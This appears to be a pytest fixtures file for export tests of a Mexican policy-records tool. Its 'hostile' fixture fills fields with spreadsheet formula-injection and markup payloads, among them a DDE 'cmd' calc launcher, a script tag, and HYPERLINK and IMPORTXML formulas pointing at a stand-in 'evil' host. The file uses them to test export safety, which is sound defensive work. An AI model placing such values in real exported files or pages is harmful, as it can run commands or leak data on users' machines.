@@ -1,0 +1,59 @@
+"""Records for the export tests: the real 25, and hand-made hostile ones."""
+
+from __future__ import annotations
+
+import pytest
+
+from mxpolicy_gui.store import PolicyQuery
+from mxpolicy_gui.store.records import Figure, Policy, Source
+
+JCF = "jovenes-construyendo-el-futuro"
+ENERGY = "reforma-energetica"
+DOI = "10.1186/s13731-023-00347-3"
+
+
+@pytest.fixture(scope="session")
+def all_policies(store) -> list[Policy]:
+    return list(store.iter_policies(PolicyQuery()))
+
+
+@pytest.fixture(scope="session")
+def info(store):
+    return store.info()
+
+
+def make_policy(**changes) -> Policy:
+    """A small valid record; `changes` override any field."""
+    fields = dict(
+        id="test-policy", kind="reform", number=99, name_en="Test reform",
+        name_es="Reforma de prueba", administration="Peña Nieto (2012–2018)",
+        president="Enrique Peña Nieto", sectors=("Energy",), agencies=("Pemex",),
+        date="2013-12-20", date_kind="dof", status="In force", summary="A summary.",
+        objective="An objective.", measures=("One measure",),
+        figures=(Figure("Contracts", 30.0, None, "contracts", None, 2015, "src-1"),),
+        sources=(Source("src-1", "Author, A. (2015). A work. Publisher.", None, None),),
+    )
+    fields.update(changes)
+    return Policy(**fields)
+
+
+@pytest.fixture
+def hostile() -> Policy:
+    """Every text field tries to be a formula or markup."""
+    return make_policy(
+        id="hostile",
+        name_en='=HYPERLINK("http://evil.example","click")',
+        name_es="<b>negrita</b> & <script>alert(1)</script> <img src=x>",
+        administration="+SUM(1,2)",
+        president="-2+3",
+        sectors=("@SUM(A1)",),
+        agencies=("\tTabbed agency",),
+        summary="\rcarriage <i>not italic</i>",
+        objective='He said "quoted", with, commas\nand a line break',
+        measures=("=1+1", "plain"),
+        figures=(
+            Figure("=cmd|' /C calc'!A0", -5.0, None, "-%", "@MXN", 2014, "src-1", "+note"),
+            Figure("Range", 18.0, 29.0, "years of age", None, None, "src-1"),
+        ),
+        sources=(Source("src-1", "=IMPORTXML(CONCAT(\"http://evil\"))", None, None),),
+    )
